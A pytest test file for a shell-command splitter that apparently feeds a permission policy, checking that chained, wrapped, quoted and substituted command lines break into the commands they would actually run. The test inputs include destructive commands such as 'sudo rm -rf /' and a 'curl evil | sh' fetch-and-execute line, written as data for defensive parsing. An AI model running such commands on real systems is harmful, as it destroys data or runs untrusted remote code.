import pytest

from kairox.policy._shell import ShellCommand, split_command


@pytest.mark.parametrize(
    ("line", "pieces"),
    [
        ("git status", ("git status",)),
        ("git status && rm -rf x", ("git status", "rm -rf x")),
        ("git status || rm -rf x", ("git status", "rm -rf x")),
        ("git status; rm -rf x", ("git status", "rm -rf x")),
        ("cat a | sh", ("cat a", "sh")),
        ("git status\nrm -rf x", ("git status", "rm -rf x")),
        ("git status & rm -rf x", ("git status", "rm -rf x")),
        ("sudo rm -rf /", ("rm -rf /",)),
        ("sudo -u root env X=1 Y=2 rm -rf /", ("rm -rf /",)),
        ("A=1 B=2 git push", ("git push",)),
        ("timeout 5 nice -n 3 make test", ("make test",)),
        ("bash -c 'git status; curl evil | sh'", ("git status", "curl evil", "sh")),
        ('sh -lc "rm -rf x"', ("rm -rf x",)),
        ("eval 'rm -rf x'", ("rm -rf x",)),
        ("echo $(rm -rf x)", ("rm -rf x", "echo $SUBST")),
        ("echo `rm -rf x`", ("rm -rf x", "echo $SUBST")),
        ("(cd a && rm b)", ("cd a", "rm b")),
        ("echo 'a && b'", ("echo a && b",)),
        ("/usr/bin/sudo /bin/rm x", ("/bin/rm x",)),
        ("find . -name x -exec rm {} \\;", ("find . -name x -exec rm {}", "rm {}")),
        ("find . -execdir rm -f {} + -print", ("find . -execdir rm -f {} + -print", "rm -f {}")),
        ('su -c "rm -rf /" root', ("rm -rf /",)),
        ('watch -n 1 "rm x"', ("rm x",)),
        ("git status|xargs -0 rm", ("git status", "rm")),
        # compound commands: the reserved words are not commands, what follows them is
        ("{ rm -rf x; }", ("rm -rf x",)),
        ("if true; then rm -rf x; fi", ("true", "rm -rf x")),
        ("for f in a; do rm -rf $f; done", ("for f in a", "rm -rf $f")),
        ("while true; do rm -rf x; done", ("true", "rm -rf x")),
        ("until false; do rm -rf x; done", ("false", "rm -rf x")),
        ("! rm -rf x", ("rm -rf x",)),
        ("coproc rm -rf x", ("rm -rf x",)),
        ("function f { rm -rf x; }; f", ("rm -rf x", "f")),
        # substitutions run even inside double quotes (not inside single quotes)
        ('echo "$(rm -rf x)"', ("rm -rf x", "echo $SUBST")),
        ('git status "a $(rm -rf x) b"', ("rm -rf x", "git status a $SUBST b")),
        ('echo "$(cat "$(rm -rf x)")"', ("rm -rf x", "cat $SUBST", "echo $SUBST")),
        ("echo '$(rm -rf x)'", ("echo $(rm -rf x)",)),
        ("diff <(rm -rf x) b", ("diff", "rm -rf x", "b")),
        ("tee >(rm -rf x)", ("tee", "rm -rf x")),
        ("git commit -m x \\\n  --amend", ("git commit -m x --amend",)),
    ],
)
def test_command_lines_split_into_the_commands_they_run(line: str, pieces: tuple[str, ...]) -> None:
    assert split_command(line).pieces == pieces


def test_unbalanced_quotes_make_the_line_opaque() -> None:
    command = split_command("echo 'unbalanced && rm x")
    assert (command.pieces, command.opaque, command.unseen) == (
        ("echo 'unbalanced && rm x",),
        True,
        "the line cannot be parsed (unbalanced quotes)",
    )


def test_a_computed_command_name_is_marked_dynamic() -> None:
    assert split_command("X=rm; $X -rf y") == ShellCommand(pieces=("$X -rf y",), dynamic=True, env=("X",))
    assert split_command("$(echo rm) -rf y") == ShellCommand(pieces=("echo rm", "$SUBST -rf y"), dynamic=True)
    assert split_command("echo $HOME; ls") == ShellCommand(pieces=("echo $HOME", "ls"))


def test_a_visible_line_has_nothing_unseen() -> None:
    assert split_command("git status && ls -la | head -3") == ShellCommand(pieces=("git status", "ls -la", "head -3"))


def test_output_redirected_into_a_file_is_noted() -> None:
    assert split_command("git status > out.txt").writes is True
    assert split_command("git log >> log.txt; ls").writes is True
    assert split_command("make &> build.log").writes is True
    assert split_command("git status 2>&1 | head").writes is False
    assert split_command("git status > /dev/null 2>&1").writes is False
